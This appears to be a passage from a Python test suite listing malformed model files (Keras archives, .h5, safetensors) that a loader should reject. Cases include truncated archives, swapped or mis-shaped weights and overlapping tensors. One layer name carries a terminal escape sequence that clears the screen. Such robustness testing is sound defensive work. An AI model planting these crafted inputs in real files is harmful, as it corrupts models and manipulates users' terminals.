    "a number beyond floats": Hostile(MISLOAD, "1e999, which is read as infinite", archive(STACK_WITH % '"x": 1e999')),
    "an unknown setting of compile()": Hostile(
        MISLOAD, "a loss scale, which compile() does not have", with_compile("loss_scale", 2.0)
    ),
    "units of -1": Hostile(MISLOAD, "a layer of -1 units", with_setting("units", -1)),
    "units as text": Hostile(MISLOAD, "a layer of '4' units", with_setting("units", "4")),
    "a rate of 2": Hostile(
        MISLOAD, "a Dropout of rate 2", with_layer(thing("keras.layers", "Dropout", {"name": "d", "rate": 2}))
    ),
    "a key that stands twice": Hostile(
        MISLOAD, "two values of one setting", archive(STACK_WITH % '"name": "a", "name": "b"')
    ),
    "an unknown setting": Hostile(MISLOAD, "a setting that Dense does not have", with_setting("unts", 4)),
    "a member that stands twice": Hostile(MISLOAD, "two configurations in one archive", twice),
    "no weights": Hostile(
        MISLOAD,
        "an archive without weights",
        lambda f: _file(f, "model.keras", zipped({"metadata.json": b"{}", "config.json": _parts()[0].encode()})),
    ),
    "missing weights": Hostile(MISLOAD, "a bias is missing", with_tree(put("layers/dense/vars/1", None))),
    "a missing layer": Hostile(
        MISLOAD, "a layer's weights are missing", with_tree(lambda tree: tree.members["layers"].members.pop("dense_1"))
    ),
    "extra weights": Hostile(MISLOAD, "a third weight of a Dense", with_tree(put("layers/dense/vars/2", np.zeros(2)))),
    "an extra layer": Hostile(
        MISLOAD, "weights of a layer that is not there", with_tree(put("layers/dense_7/vars/0", np.zeros(2)))
    ),
    "weights of another shape": Hostile(
        MISLOAD, "a kernel that is transposed", with_tree(put("layers/dense/vars/0", np.zeros((4, 3), "float32")))
    ),
    "weights that would broadcast": Hostile(
        MISLOAD, "a bias of one number", with_tree(put("layers/dense/vars/1", np.zeros(1, "float32")))
    ),
    "weights of another kind": Hostile(
        MISLOAD, "a kernel of whole numbers", with_tree(put("layers/dense/vars/0", np.zeros((3, 4), "int32")))
    ),
    "weights that are too wide": Hostile(
        MISLOAD, "a kernel in float64", with_tree(put("layers/dense/vars/0", np.zeros((3, 4), "float64")))
    ),
    "swapped layers": Hostile(MISLOAD, "the weights of two layers in each other's place", with_tree(swap)),
    "swapped layers of one shape": Hostile(MISLOAD, "the same, where shapes say nothing", alike_swapped),
    "swapped names in an .h5 file": Hostile(
        MISLOAD, "two layers of one shape, listed in another order", older_swapped(["e", "d"], ["d", "e"])
    ),
    "swapped groups in an .h5 file": Hostile(
        MISLOAD, "two layers of one shape, in each other's group", older_swapped(["d", "e"], ["e", "d"])
    ),
    "two layers of one name": Hostile(
        MISLOAD, "a graph whose second layer of a name hides the first", data("m.json", one_name_twice), "json"
    ),
    "a name that steers a terminal": Hostile(
        MISLOAD, "a layer's name with control characters, which clear the screen", with_setting("name", "\x1b[2Jd")
    ),
    "a name of half a letter": Hostile(
        MISLOAD, "a layer's name with half of a surrogate pair", with_setting("name", "d\ud800")
    ),
    "an output before the first": Hostile(
        MISLOAD,
        "the output number -1 of a layer",
        archive(graph([input_entry(), ("a", dense("a"), ("x",))], "x", ["a", 0, -1])),
    ),
    "swapped weights of a layer": Hostile(MISLOAD, "beta in the place of gamma", legacy_swapped),
    "a slot of another shape": Hostile(
        MISLOAD, "a moment of Adam in another shape", with_tree(put("optimizer/vars/3", np.zeros((4, 3), "float32")))
    ),
    "a missing slot": Hostile(MISLOAD, "a moment of Adam is missing", with_tree(put("optimizer/vars/3", None))),
    "a cut archive": Hostile(
        MISLOAD, "the second half is missing", archive(change=lambda found: found[: len(found) // 2])
    ),
    "a list in the wrong place": Hostile(
        MISLOAD, "members that begin before the file does", archive(change=late_directory)
    ),
    "a wrong byte": Hostile(MISLOAD, "one bit of a weight is wrong", archive(change=wrong_byte)),
    "a cut safetensors": Hostile(
        MISLOAD, "the last byte is missing", data("w.safetensors", lambda: tensors(**honest_arrays())[:-1]), "weights"
    ),
    "tensors that overlap": Hostile(
        MISLOAD,
        "two tensors of the same bytes",
        data("w.safetensors", lambda: header({"a": tensor(), "b": tensor()}, bytes(4))),
        "weights",
    ),
    "a gap between tensors": Hostile(
        MISLOAD,
        "bytes that belong to no tensor",
        data("w.safetensors", lambda: header({"a": tensor(4, 8)}, bytes(8))),
        "weights",
    ),
    "a tensor of a negative shape": Hostile(
        MISLOAD,
        "a shape of -1",
        data("w.safetensors", lambda: header({"a": tensor(0, 4, (-1, -1))}, bytes(4))),
        "weights",
    ),
    "a tensor too many": Hostile(
        MISLOAD,
        "a weight that the model has not",
        data("w.safetensors", lambda: tensors(**honest_arrays(), more=np.zeros(3, "float32"))),
        "weights",
    ),
    "a tensor too few": Hostile(
        MISLOAD,
        "a weight is missing",
        data("w.safetensors", lambda: tensors(**dict(list(honest_arrays().items())[1:]))),
        "weights",
    ),
    "texts in safetensors": Hostile(
        MISLOAD,
        "a tensor of a kind that is none",
        data("w.safetensors", lambda: header({"a": tensor(dtype="O")}, bytes(4))),
        "weights",
    ),
    "weights that are no file": Hostile(
        EXHAUSTION, "a folder in the place of weights", lambda folder: folder, "weights"
    ),
    "an empty file": Hostile(MISLOAD, "nothing", data("model.keras", lambda: b"")),
}
